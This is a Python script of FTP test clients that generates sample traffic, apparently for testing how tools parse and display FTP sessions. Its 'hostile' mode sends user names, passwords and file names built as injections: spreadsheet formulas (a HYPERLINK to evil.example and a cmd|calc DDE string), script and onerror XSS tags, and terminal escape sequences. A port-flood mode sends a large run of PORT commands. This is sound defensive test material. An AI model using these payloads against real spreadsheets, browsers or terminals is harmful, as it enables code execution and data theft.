#!/usr/bin/python3
"""FTP clients (ftplib / raw sockets) used by scripts/make-samples.

Subcommands:
  login-retry HOST USER BADPASS GOODPASS
      one control connection: USER/PASS with a wrong password (530),
      USER/PASS again with the right one (230), PASV + LIST, QUIT.
  stor-active HOST USER PASS LOCALFILE REMOTENAME
      login, active-mode (PORT) STOR of LOCALFILE, QUIT.
  ipv6 HOST USER PASS FILENAME LOCALFILE
      ftplib over IPv6: EPSV + LIST, then EPRT + RETR FILENAME (saved
      to LOCALFILE), QUIT.
  telnet HOST FILENAME
      a person at a telnet prompt: lower-case commands typed one
      character per TCP segment, PASV, data connection opened before
      "retr", QUIT.
  hostile HOST USER PASS
      names chosen to break spreadsheets, tables and terminals: failed
      logins with hostile user names and passwords, then USER/PASS, and
      STOR/RETR/MKD/CWD/DELE of files whose names start with formula
      characters or hold quotes, commas, pipes, backticks, <script>,
      ANSI escapes, a CR, a tab and bytes that are not UTF-8.
  port-flood HOST USER PASS COUNT [listen]
      login, then COUNT PORT commands (each answered 200) announcing a
      different client port each time (20000, 20001, ...) and never
      followed by a transfer command, QUIT: a flood of data-channel
      expectations.  With "listen", the client listens on each port
      before announcing it, for a server that connects as soon as it
      reads PORT (pyftpdlib), and closes each data connection once the
      next PORT made the server close it.
"""
import ftplib
import re
import socket
import sys
import time


def say(msg):
    print(msg, file=sys.stderr, flush=True)


def login_retry(host, user, badpass, goodpass):
    ftp = ftplib.FTP()
    say(ftp.connect(host, 21, timeout=10))
    say(ftp.sendcmd("USER " + user))
    try:
        say(ftp.sendcmd("PASS " + badpass))
        raise SystemExit("wrong password was accepted")
    except ftplib.error_perm as exc:
        say(str(exc))
    say(ftp.sendcmd("USER " + user))
    say(ftp.sendcmd("PASS " + goodpass))
    ftp.set_pasv(True)
    lines = []
    say(ftp.retrlines("LIST", lines.append))
    say("\n".join(lines))
    say(ftp.quit())


def stor_active(host, user, password, localfile, remotename):
    ftp = ftplib.FTP()
    say(ftp.connect(host, 21, timeout=10))
    say(ftp.login(user, password))
    ftp.set_pasv(False)
    with open(localfile, "rb") as fh:
        say(ftp.storbinary("STOR " + remotename, fh))
    say(ftp.quit())


def ipv6(host, user, password, filename, localfile):
    ftp = ftplib.FTP()
    # connecting to an IPv6 address makes ftplib use EPSV / EPRT
    say(ftp.connect(host, 21, timeout=10))
    say(ftp.login(user, password))
    ftp.set_pasv(True)
    lines = []
    say(ftp.retrlines("LIST", lines.append))
    say("\n".join(lines))
    ftp.set_pasv(False)
    with open(localfile, "wb") as fh:
        say(ftp.retrbinary("RETR " + filename, fh.write))
    say(ftp.quit())


class Typist:
    """A control connection driven like a human at a telnet prompt."""

    def __init__(self, host, port=21, delay=0.03):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.delay = delay
        self.buf = b""

    def read_reply(self):
        """Read one (possibly multi-line) reply; return its text."""
        while True:
            while b"\r\n" not in self.buf:
                data = self.sock.recv(4096)
                if not data:
                    raise SystemExit("server closed the control connection")
                self.buf += data
            # a complete reply ends with a line "ddd text"
            lines = self.buf.split(b"\r\n")
            for i, line in enumerate(lines[:-1]):
                if re.match(rb"^\d{3} ", line) and (
                        i == 0 or lines[0][:3] == line[:3]):
                    reply = b"\r\n".join(lines[:i + 1]).decode()
                    self.buf = b"\r\n".join(lines[i + 1:])
                    say("<<< " + reply)
                    return reply
            data = self.sock.recv(4096)
            if not data:
                raise SystemExit("server closed the control connection")
            self.buf += data

    def type_line(self, text):
        """One send() per key press; Enter (CRLF) is a segment of its own."""
        say(">>> " + text)
        for ch in text:
            time.sleep(self.delay)
            self.sock.send(ch.encode())
        time.sleep(self.delay)
        self.sock.send(b"\r\n")


def telnet(host, filename):
    t = Typist(host)
    t.read_reply()                      # 220
    t.type_line("user anonymous")
    t.read_reply()                      # 331
    t.type_line("pass 1")
    t.read_reply()                      # 230
    t.type_line("pasv")
    reply = t.read_reply()              # 227 ... (h1,h2,h3,h4,p1,p2)
    m = re.search(r"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", reply)
    if not m:
        raise SystemExit("no address in PASV reply: " + reply)
    nums = [int(x) for x in m.groups()]
    data_host = ".".join(str(n) for n in nums[:4])
    data_port = nums[4] * 256 + nums[5]
    # open the data connection before typing the transfer command
    data = socket.create_connection((data_host, data_port), timeout=10)
    time.sleep(0.2)
    t.type_line("retr " + filename)
    t.read_reply()                      # 125 Data connection already open
    content = b""
    while True:
        chunk = data.recv(4096)
        if not chunk:
            break
        content += chunk
    data.close()
    say("data: %r" % content)
    t.read_reply()                      # 226
    t.type_line("quit")
    t.read_reply()                      # 221
    t.sock.close()


class RawControl:
    """A control connection that sends exact bytes (ftplib refuses a CR
    inside a line and encodes everything as UTF-8)."""

    def __init__(self, host, port=21):
        self.host = host
        self.sock = socket.create_connection((host, port), timeout=10)
        self.buf = b""

    def reply(self):
        """Read one (possibly multi-line) reply; return (code, raw bytes)."""
        lines = []
        while True:
            while b"\r\n" not in self.buf:
                data = self.sock.recv(4096)
                if not data:
                    raise SystemExit("server closed the control connection")
                self.buf += data
            line, self.buf = self.buf.split(b"\r\n", 1)
            lines.append(line)
            first = lines[0]
            if re.match(rb"^\d{3} ", line) and line[:3] == first[:3]:
                say("<<< %r" % b"\r\n".join(lines))
                return int(first[:3]), b"\r\n".join(lines)
            if len(lines) == 1 and not re.match(rb"^\d{3}-", line):
                raise SystemExit("not a reply: %r" % line)

    def send(self, line):
        say(">>> %r" % line)
        self.sock.sendall(line + b"\r\n")

    def cmd(self, line, *codes):
        self.send(line)
        code, text = self.reply()
        if codes and code not in codes:
            raise SystemExit("%r: unexpected reply %r" % (line, text))
        return code, text

    def pasv(self):
        _, text = self.cmd(b"PASV", 227)
        m = re.search(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", text)
        nums = [int(x) for x in m.groups()]
        return socket.create_connection(
            (".".join(str(n) for n in nums[:4]), nums[4] * 256 + nums[5]),
            timeout=10)

    def store(self, name, content):
        data = self.pasv()
        self.cmd(b"STOR " + name, 125, 150)
        data.sendall(content)
        data.close()
        self.reply()                    # 226

    def fetch(self, line):
        data = self.pasv()
        self.cmd(line, 125, 150)
        got = b""
        while True:
            chunk = data.recv(4096)
            if not chunk:
                break
            got += chunk
        data.close()
        self.reply()                    # 226
        return got


# (user, password) pairs that the server refuses, one hostile kind each
HOSTILE_LOGINS = [
    (b'=HYPERLINK("http://evil.example/?q="&A1,"click me")',
     b'+SUM(1,2),"quoted, comma"'),
    (b"@cmd|' /C calc'!A0", b"-2+3|pipe|`backtick`"),
    # not UTF-8: Latin-1 bytes, a broken sequence and 0x9b (a one-byte CSI
    # in Latin-1 terminals); no 0xff, which Telnet reads as IAC
    (b"\x1b[31mred-user\x1b[0m", b"\xe9t\xe9 \xc3( \x9b31m not utf-8"),
    (b'<script>alert("x")</script>', b"pass\rword with a CR inside"),
]

# file names to upload, one hostile kind each (a LF cannot be sent: it
# ends the command line; a CR can)
HOSTILE_FILES = [
    b'=HYPERLINK("evil.example?q=1","x").txt',   # no /: it would be a directory
    b'+1+1,"quoted".txt',
    b"-rf |pipe| `tick`.txt",
    b"@SUM(A1)<script>alert(1)<img src=x onerror=alert(2)>.txt",
    b"\x1b[31mred\x1b[0m.txt",
    b"bad-\xe9\x80\xc3(-utf8.txt",
    b"\tTAB=1+1.txt",
    b"\r=CR-prefix.txt",
    b"cr\rinside.txt",
    b"caf\xc3\xa9 \xe2\x80\x94 ok.txt",
]


def hostile(host, user, password):
    c = RawControl(host)
    c.reply()                           # 220
    for bad_user, bad_pass in HOSTILE_LOGINS:
        c.cmd(b"USER " + bad_user, 331)
        c.cmd(b"PASS " + bad_pass, 530)
    c.cmd(b"USER " + user.encode(), 331)
    c.cmd(b"PASS " + password.encode(), 230)
    c.cmd(b"PWD", 257)
    c.cmd(b"TYPE I", 200)
    for i, name in enumerate(HOSTILE_FILES, 1):
        c.store(name, b"hostile-names sample file %02d\n" % i)
    listing = c.fetch(b"LIST")
    say(repr(listing))
    for name in (HOSTILE_FILES[0], HOSTILE_FILES[4]):
        got = c.fetch(b"RETR " + name)
        if not got.startswith(b"hostile-names sample file"):
            raise SystemExit("RETR %r gave %r" % (name, got))
    c.cmd(b"MKD |a|b| `x`", 257)
    c.cmd(b"CWD |a|b| `x`", 250)
    c.cmd(b"PWD", 257)
    c.cmd(b"CDUP", 200, 250)
    c.cmd(b"DELE \x1b]0;pwned\x07.txt", 550)
    c.cmd(b"PORT 1,2,3,=4,5,6", 501)
    c.cmd(b"QUIT", 221)
    c.sock.close()


def port_flood(host, user, password, count, mode=""):
    listen = mode == "listen"
    c = RawControl(host)
    c.reply()                           # 220
    c.cmd(b"USER " + user.encode(), 331)
    c.cmd(b"PASS " + password.encode(), 230)
    h = host.replace(".", ",").encode()
    previous = None                     # the data connection of the last PORT
    for i in range(int(count)):
        # unprivileged ports, one per PORT: servers accept them
        port = 20000 + i
        lsock = None
        if listen:
            lsock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            lsock.bind((host, port))
            lsock.listen(1)
        c.cmd(b"PORT %s,%d,%d" % (h, port // 256, port % 256), 200)
        if lsock is not None:
            lsock.settimeout(10)
            data, _ = lsock.accept()
            lsock.close()
            if previous is not None:
                # the server closed it when it read this PORT: wait for its
                # FIN, then close our side
                previous.settimeout(10)
                while previous.recv(4096):
                    pass
                previous.close()
            previous = data
    c.cmd(b"QUIT", 221)
    if previous is not None:
        previous.close()
    c.sock.close()


def main(argv):
    if not argv:
        raise SystemExit(__doc__)
    cmd, args = argv[0], argv[1:]
    funcs = {
        "login-retry": login_retry,
        "stor-active": stor_active,
        "ipv6": ipv6,
        "telnet": telnet,
        "hostile": hostile,
        "port-flood": port_flood,
    }
    if cmd not in funcs:
        raise SystemExit(__doc__)
    funcs[cmd](*args)


if __name__ == "__main__":
    main(sys.argv[1:])
